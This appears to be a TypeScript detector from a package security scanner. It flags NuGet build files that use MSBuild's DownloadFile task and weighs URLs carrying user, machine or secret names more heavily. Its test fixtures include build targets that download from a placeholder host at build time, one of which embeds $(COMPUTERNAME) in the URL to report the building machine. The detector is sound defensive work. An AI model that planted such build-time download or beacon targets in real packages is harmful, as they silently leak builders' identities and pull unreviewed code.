import type { Detector } from "../detector.ts";
import { attribute, buildFiles, elements, expand, sightElement } from "./_msbuild.ts";

/** Properties that name the user, the machine or a secret. */
const PERSONAL =
  /\$\((?:USERNAME|USER|COMPUTERNAME|HOSTNAME|USERDOMAIN|USERDNSDOMAIN|HOME|USERPROFILE|\w{0,40}(?:TOKEN|SECRET|PASSWORD|API_?KEY))\)/i;

export const buildFileDownloads: Detector = {
  id: "build-file-downloads",
  title: "A build file of the package downloads a file",
  severity: "high",
  ecosystems: ["nuget"],
  points: 5,
  class: "threat",
  group: "build-attacks",
  why: `MSBuild's \`DownloadFile\` task fetches from an address in the package's build file, at each build, without any script. What comes can
change after the release was inspected; an address with user or machine name in it reports who builds.

Honest packages fetch command-line tools and data of their own project this way. It counts in part, more where the same file then runs
a command.`,
  literals: ["downloadfile"],
  *detect(tree) {
    for (const build of buildFiles(tree)) {
      const runs = [...elements(build.root, "exec")].length > 0;
      for (const node of elements(build.root, "downloadfile")) {
        const written = attribute(node, "sourceurl");
        const url = expand(build, written);
        const personal = PERSONAL.test(written) || PERSONAL.test(url);
        const says = personal ? "building reports the user or machine to" : "building downloads";
        yield sightElement(build, node, `${says} ${url.slice(0, 160)}`, personal ? 1 : runs ? 0.7 : 0.4);
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "nuget",
        files: {
          "build/Demo.targets":
            '<Project><Target Name="A"><DownloadFile SourceUrl="https://example.invalid/a" DestinationFolder="$(TEMP)" /></Target></Project>',
        },
      },
    ],
    passes: [
      {
        ecosystem: "nuget",
        files: {
          "build/Demo.targets":
            '<Project><!-- DownloadFile --><Target Name="A"><Copy SourceFiles="a" DestinationFolder="b" /></Target></Project>',
        },
      },
    ],
    evasions: [
      {
        ecosystem: "nuget",
        files: {
          "buildMultiTargeting/Demo.props":
            '<Project><PropertyGroup><U>https://example.invalid/$(COMPUTERNAME)</U></PropertyGroup><Target Name="A"><downloadfile sourceurl="$(U)" DestinationFolder="x" /></Target></Project>',
        },
      },
    ],
  },
};
